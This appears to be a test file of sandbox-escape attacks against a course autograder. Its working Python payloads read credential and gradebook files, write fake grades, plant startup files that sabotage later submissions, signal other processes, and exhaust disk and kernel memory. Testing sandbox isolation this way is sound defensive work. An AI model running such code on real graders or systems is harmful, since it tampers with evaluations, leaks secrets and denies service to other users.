"""Attacks on the walls: reading, writing and reaching what lies outside, and staying there."""

from attack import ERROR, FULL, GRADED, HONEST, Attack

TRY = """
import ctypes, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, action):
    try:
        found = action()
    except BaseException:
        return
    if found not in (None, False, -1, b"", ""):
        print("GOT", name, repr(found)[:200])
"""


def then_honest(name: str, tries: str, source: str) -> Attack:
    """An attack before a function that is right, so that its points show that nothing else was lost."""
    return Attack(name, tries, TRY + source + HONEST, points=FULL)


ON_WALLS = [
    then_honest("read-gradebook", "gradebook, secrets, exercises, checks, classmates and keys by their paths", """
for path in ("@BASE@", "@BASE@/home/gradebook.db", "@BASE@/results/run.json", "@BASE@/exercises/checks/total.py",
             "@BASE@/exercises/total/total.ipynb", "@BASE@/submitted", "@BASE@/secret.ipynb", "/etc/passwd",
             "/etc/shadow", "/etc/hostname", "/home", "/root/.ssh", "/var", "/run", "/sys", "/proc/1/environ",
             "/proc/self/environ",
             "/proc/1/root", "/proc/self/fd/3", "../../../..@BASE@/secret.ipynb", "exercises", "/course/exercises"):
    attempt(path, lambda: (os.listdir(path) or None) if os.path.isdir(path) else open(path, "rb").read(500) or None)
"""),
    then_honest("read-solutions", "the exercises beside the course's library, through each entry of sys.path", """
import course_lib, importlib.util
places = {*sys.path, os.getcwd(), os.path.dirname(os.path.dirname(os.path.realpath(course_lib.__file__)))}
for place in places:
    for inner in ("exercises", "tests", ".git", "book", "notebooks"):
        attempt(place + inner, lambda: "checks" in os.listdir(os.path.join(place, inner)) or inner == ".git")
attempt("module", lambda: importlib.util.find_spec("exercises"))
from course_lib.grading.exercise import DEFAULT_FOLDER
attempt("default folder", lambda: os.listdir(DEFAULT_FOLDER))
"""),
    then_honest("read-environment", "the grader's environment and command line", """
for name, value in os.environ.items():
    attempt(name, lambda: "@TOKEN@" in value or "@BASE@" in value)
attempt("arguments", lambda: any("@BASE@" in word for word in sys.argv + sys.orig_argv))
attempt("memory", lambda: open("/proc/self/maps").read())
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
attempt("libc", lambda: b"@TOKEN@" in b" ".join(environ[i] for i in range(4)))
"""),
    then_honest("write-grades", "full marks for itself, zeros for others, anywhere", """
for path in ("@BASE@/results/@TOKEN@", "@BASE@/results/000-honest/total.json", "@BASE@/submitted/@TOKEN@",
             "@BASE@/@TOKEN@", "results/@TOKEN@", "../@TOKEN@", "/@TOKEN@", "/etc/@TOKEN@", "/usr/@TOKEN@",
             "/course/@TOKEN@", "/course/course_lib/@TOKEN@", "/dev/@TOKEN@", "/dev/pts/@TOKEN@", "/proc/@TOKEN@",
             "/proc/sys/kernel/core_pattern"):
    attempt(path, lambda: open(path, "a").write("x"))
    attempt(path, lambda: os.mkdir(path + "d") or "made")
    attempt(path, lambda: os.symlink("/", path + "l") or "linked")
"""),
    then_honest("start-up-files", "code that the next submission runs at its start", """
code = "import builtins; builtins.print('GOT the next one'); builtins.sum = builtins.float = lambda *a: 0"
folders = [*map(os.path.abspath, sys.path), "/course/course_lib", "/usr/lib/python3/dist-packages", "/tmp"]
folders += [os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])]
folders += [os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.config/matplotlib")]
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "00-evil.py", "torch.py", "matplotlibrc"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(code)
            if not folder.startswith("/tmp") or folder.startswith(sys.prefix):
                print("GOT", folder)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"
"""),
    *(then_honest(f"mailbox-{number}", "a word with the other submissions, by files, memory, names and locks", """
for path in ("/tmp/box", "/dev/shm/box", "/var/tmp/box", "/dev/pts/box", "/course/box", "/run/box"):
    attempt(path, lambda: open(path).read())
    try:
        open(path, "w").write("mail")
    except OSError:
        pass
attempt("fifo", lambda: os.mkfifo("/usr/box") or "made")
attempt("terminal", lambda: os.openpty())
attempt("shared memory", lambda: libc.shmget(4711, 4096, 0o1666))
attempt("semaphores", lambda: libc.semget(4711, 1, 0o1666))
attempt("message queue", lambda: libc.msgget(4711, 0o1666))
attempt("posix queue", lambda: libc.mq_open(b"/box", 0o102, 0o666, None))
attempt("abstract socket", lambda: socket.socket(socket.AF_UNIX).connect("\\\\0box") or "heard")
held = socket.socket(socket.AF_UNIX)
held.bind("\\\\0box"), held.listen()
""".replace("\\\\0", "\\0")) for number in (1, 2)),
    then_honest("network", "a listener of this machine, and any other, by every family of sockets", """
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT@)),
                        (socket.AF_UNIX, "@BASE@/socket"), (socket.AF_UNIX, "\\0@TOKEN@"),
                        (socket.AF_INET, ("1.1.1.1", 53))):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        attempt(address, lambda: socket.socket(family, kind).connect(address) or "connected")
        attempt(address, lambda: socket.socket(family, kind).sendto(b"@TOKEN@", address))
for family in (socket.AF_NETLINK, socket.AF_PACKET, 40, 38, 10, 2):  # 40: to virtual machines, 38: ciphers
    attempt(family, lambda: socket.socket(family, socket.SOCK_RAW))
    attempt(family, lambda: socket.socketpair(family))
attempt("names", lambda: socket.getaddrinfo("example.com", 80))
import urllib.request
attempt("url", lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=2).read())
"""),
    then_honest("signals", "to the parent, to process 1, to its group, to all", """
import signal
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGINT, signal.SIGKILL):
    for pid in (-1, *range(2, 60)):
        attempt((pid, number), lambda: os.kill(pid, number) or pid)
for other in range(-1, 60):
    attempt("limits", lambda: other > 1 and __import__("resource").prlimit(other, 7))
    attempt("priority", lambda: other > 1 and (os.setpriority(os.PRIO_PROCESS, other, 19) or "set"))
    attempt("group", lambda: os.getpgid(other) if other > 1 else None)
"""),
    Attack("signal-to-its-group", "signals to process 0, which is its own group", TRY + HONEST + """
for number in (1, 2, 3, 10, 12, 13, 14, 15, 19, 9):
    attempt("group", lambda: os.kill(0, number))
""", (GRADED, ERROR), points=FULL),
    then_honest("walls-again", "system calls that move walls, reach memory or open new parts of the kernel", """
PARTS = (
    ("unshare", 0x10000000), ("unshare", 0x7E020000), ("setns", 3, 0), ("mount", b"none", b"/tmp", b"tmpfs", 0, 0),
    ("umount2", b"/proc", 2), ("umount2", b"/tmp", 2), ("pivot_root", b"/tmp", b"/tmp"), ("chroot", b"/tmp"),
    ("ptrace", 16, 1, 0, 0), ("ptrace", 0, 0, 0, 0), ("setuid", 0), ("setgid", 0), ("setresuid", 0, 0, 0),
    ("sethostname", b"x", 1), ("klogctl", 3, ctypes.create_string_buffer(99), 99), ("swapon", b"/tmp/x", 0),
    ("acct", b"/tmp/x"), ("reboot", 0), ("iopl", 3), ("ioperm", 0, 9, 1), ("nice", -5), ("fork",),
    ("memfd_create", b"x", 0), ("keyctl", 0, -3, 1), ("name_to_handle_at", -100, b"/", 0, 0, 0),
    ("fanotify_init", 0, 0),
)
for name, *values in PARTS:
    if hasattr(libc, name):
        attempt(name, lambda: getattr(libc, name)(*values))
for number in (321, 298, 425, 435, 250, 248, 249, 304, 101, 310, 323, 438, 0x40000000 + 57, 0x40000000 + 41):
    attempt(number, lambda: os.uname().machine == "x86_64" and libc.syscall(number, 0, 0, 0, 0, 0, 0) >= 0)
attempt("root", lambda: os.geteuid() == 0)
import resource
for limit in (resource.RLIMIT_AS, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
    attempt("limit", lambda: resource.setrlimit(limit, (-1, -1)) or "raised")
attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or "set")
"""),
    then_honest("descriptors", "descriptors left open by the grader, and new ones sent to it", """
import array
for number in (*range(4, 1024),):
    attempt(number, lambda: str(os.fstat(number)))
channel = socket.socket(fileno=os.dup(3))
attempt("peer", lambda: os.readlink("/proc/self/fd/3"))
inside = [os.open("/dev/null", os.O_RDONLY) for _ in range(20)]
ours, theirs = socket.socketpair()
theirs.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", inside))])
attempt("rights", lambda: channel.recvmsg(1, 4096, socket.MSG_DONTWAIT)[1])
for number in inside: os.close(number)
"""),
    Attack("rights-to-the-grader", "descriptors sent to the grader with an answer", TRY + """
import array
def total(numbers):
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 30))]
    socket.socket(fileno=3).sendmsg([b"\\0\\0\\0\\x16\\0\\0\\0\\0", b'["dict",["answer",0]]'], rights)
    time.sleep(0.2)
    return 0.0
"""),
    then_honest("name-that-is-no-text", "a process name that no reader of /proc expects", """
libc.prctl(15, b"\\xff\\xfe) R 1 1 (\\n\\xc3", 0, 0, 0)
time.sleep(0.5)
"""),
    then_honest("orphan", "a process that lives on, by every way to start one", """
import multiprocessing, subprocess, threading
libc.prctl(15, b"@TOKEN@"[:15], 0, 0, 0)
def live_on():
    while True: time.sleep(60)
for start in (os.fork, os.forkpty, lambda: subprocess.Popen(["/bin/sleep", "600"], start_new_session=True),
              lambda: multiprocessing.Process(target=live_on).start() or "started",
              lambda: os.posix_spawn("/bin/sleep", ["@TOKEN@", "600"], {}),
              lambda: os.system("setsid sleep 600 &") == 0):
    attempt("a process", start)
threading.Thread(target=live_on, daemon=False).start()
import atexit
atexit.register(live_on)
"""),
    then_honest("disk", "the disk, filled by bytes, files and names", """
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/dev"):
    try:
        with open(folder + "/@TOKEN@", "wb") as file:
            for _ in range(2000): file.write(bytes(2**20))
        print("GOT 2 GB in", folder)
    except OSError:
        pass
    try:
        for number in range(20_000): open(f"{folder}/@TOKEN@{number}", "w").close()
        print("GOT 20,000 files in", folder)
    except OSError:
        pass
attempt("core", lambda: __import__("resource").setrlimit(4, (2**40, 2**40)) or "raised")
"""),
    then_honest("kernel-memory", "memory that no limit counts: sockets, semaphores, pipes, maps", """
import fcntl
held, size = [], 0
try:
    while size < 2**31:
        held += socket.socketpair()
        held[-1].setblocking(False)
        try:
            held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
            print("GOT large buffers")
        except OSError:
            pass
        try:
            while True: size += held[-1].send(bytes(65536))
        except BlockingIOError:
            pass
    print("GOT 2 GB of buffers")
except OSError:
    pass
del held
attempt("semaphores", lambda: libc.semget(0, 32000, 0o1600))
"""),
    then_honest("locks", "locks on what every submission reads", """
import fcntl
held = []
for path in (sys.executable, os.__file__, "/course/course_lib/__init__.py", "/course/corpus.txt", "/usr/bin/env"):
    try:
        held.append(open(path))
        fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.fcntl(held[-1], 1024, 0)
    except OSError:
        pass
"""),
]  # fmt: skip
